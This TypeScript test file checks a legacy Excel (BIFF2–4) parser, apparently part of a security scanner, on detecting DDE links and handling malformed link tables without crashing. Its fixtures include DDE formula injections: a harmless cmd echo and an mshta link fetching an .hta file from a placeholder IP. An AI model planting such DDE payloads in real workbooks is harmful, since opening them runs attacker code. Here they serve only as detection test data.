import assert from 'node:assert/strict';
import { test } from 'node:test';
import {
  buildLegacySheet,
  legacyExternRef,
  type LegacySheetSpec,
} from '../../../test/builders/biff-legacy.js';
import { parseLegacyWorkbook } from './index.js';

const CMD = { application: 'cmd', topic: '/c echo emoguard-test' };
const ddeSheet = (v: 2 | 3 | 4, extra: Partial<LegacySheetSpec> = {}): LegacySheetSpec => ({
  type: 'macro',
  externSheets: [{ dde: CMD, names: [{ name: 'A0' }] }],
  cells: [{ ref: 'A1', rgce: legacyExternRef(v, 1, { name: 1 }) }],
  ...extra,
});
/** PtgRef (0x44) to an absolute cell, BIFF2–5 layout: row with flags, column byte. */
const ptgRef = (row: number, col: number) => Uint8Array.of(0x44, row & 0xff, row >> 8, col);

test("biff legacy dde: EXTERNSHEET cmd 03H topic + EXTERNNAME A0 + PtgSheet/PtgName is =cmd|'…'!A0 in BIFF2, 3 and 4", () => {
  for (const v of [2, 3, 4] as const) {
    const book = parseLegacyWorkbook(buildLegacySheet(v, ddeSheet(v)));
    assert.deepEqual(book.anomalies, [], `BIFF${v} anomalies`);
    assert.equal(book.sheets[0]?.cells[0]?.formula, "cmd|'/c echo emoguard-test'!A0", `BIFF${v}`);
    assert.equal(book.ddeLinks.length, 1, `BIFF${v} links`);
    const [link] = book.ddeLinks;
    assert.deepEqual(
      { ...link, offset: 0 },
      {
        application: 'cmd',
        topic: '/c echo emoguard-test',
        item: 'A0',
        isOle: false,
        formula: "cmd|'/c echo emoguard-test'!A0",
        offset: 0,
        cells: ['A1'],
      },
      `BIFF${v}`,
    );
    assert.ok((link?.offset ?? 0) > 0, 'the EXTERNNAME record offset is kept');
  }
});

test('biff legacy dde: benign external references (another workbook, a sheet of this one) are decoded, not DDE links', () => {
  const book = parseLegacyWorkbook(
    buildLegacySheet(4, {
      externSheets: [
        { document: '\u0001\u0001Cdata\u0003[book.xls]Sheet1' },
        { document: '\u0003Sheet2' },
        { document: '\u0002' },
      ],
      cells: [
        { ref: 'A1', rgce: legacyExternRef(4, 1, { rgce: ptgRef(0, 0) }), value: 1 },
        { ref: 'A2', rgce: legacyExternRef(4, 2, { rgce: ptgRef(1, 1) }), value: 2 },
        { ref: 'A3', rgce: legacyExternRef(4, 3, { rgce: ptgRef(2, 2) }), value: 3 },
      ],
    }),
  );
  assert.deepEqual(book.ddeLinks, []);
  assert.deepEqual(
    book.sheets[0]?.cells.map((c) => c.formula),
    ["'C:\\data\\[book.xls]Sheet1'!$A$1", 'Sheet2!$B$2', '$C$3'],
  );
});

test('biff legacy dde: an OLE-link EXTERNNAME is marked isOle; a DDE EXTERNSHEET without names is still listed', () => {
  const book = parseLegacyWorkbook(
    buildLegacySheet(3, {
      externSheets: [
        {
          dde: { application: 'Excel.Sheet', topic: 'C:\\x.xls' },
          names: [{ name: 'R1C1', isOle: true }],
        },
        { dde: { application: 'mshta', topic: 'http://192.0.2.7/x.hta' } },
      ],
      cells: [],
    }),
  );
  assert.deepEqual(
    book.ddeLinks.map((l) => [l.application, l.item, l.isOle, l.formula]),
    [
      ['Excel.Sheet', 'R1C1', true, "Excel.Sheet|'C:\\x.xls'!R1C1"],
      ['mshta', '', false, "mshta|'http://192.0.2.7/x.hta'"],
    ],
  );
});

test('biff legacy dde: maxNames caps the links kept, on both sides of the limit', () => {
  const spec = ddeSheet(4, {
    externSheets: [1, 2, 3].map((i) => ({
      dde: { application: 'cmd', topic: `/c echo ${i}` },
      names: [{ name: 'A0' }],
    })),
  });
  const atLimit = parseLegacyWorkbook(buildLegacySheet(4, spec), { maxNames: 3 });
  assert.equal(atLimit.ddeLinks.length, 3, 'exactly maxNames links are kept');
  assert.ok(!atLimit.anomalies.some((a) => a.code === 'E_BIFF_NAME_LIMIT'), 'no limit at 3');
  const over = parseLegacyWorkbook(buildLegacySheet(4, spec), { maxNames: 2 });
  assert.equal(over.ddeLinks.length, 2, 'the third link is dropped');
  assert.ok(
    over.anomalies.some((a) => a.code === 'E_BIFF_NAME_LIMIT'),
    'the limit is reported',
  );
});

test('biff legacy dde: hostile link tables — PtgSheet past the table, a cut EXTERNNAME — are anomalies, never throws', () => {
  const cut = Uint8Array.of(0x23, 0x02, 0x00, 0x00); // EXTERNNAME 0x0223 with a 2-byte body: no name
  const book = parseLegacyWorkbook(
    buildLegacySheet(4, {
      externSheets: [{ dde: CMD }],
      cells: [
        { ref: 'A1', rgce: legacyExternRef(4, 9, { name: 1 }) },
        { ref: 'A2', rgce: legacyExternRef(4, 9, { rgce: ptgRef(0, 0) }) },
        { ref: 'A3', rgce: Uint8Array.of(0x1a, 0, 0) },
      ],
      extraRecords: [cut],
    }),
  );
  const cells = book.sheets[0]!.cells;
  assert.deepEqual(
    cells.slice(0, 2).map((c) => c.formula),
    ['_NAMEX1', '_EXTERN9!$A$1'],
  );
  assert.ok(cells[2]?.formulaError, 'a truncated PtgSheet ends that formula only');
  assert.ok(
    book.anomalies.some((a) => a.code === 'E_BIFF_RECORD_TRUNCATED'),
    'the cut EXTERNNAME is an anomaly',
  );
  assert.deepEqual(
    book.ddeLinks.map((l) => l.item),
    [''],
    'the DDE EXTERNSHEET is listed once, without an item',
  );
});
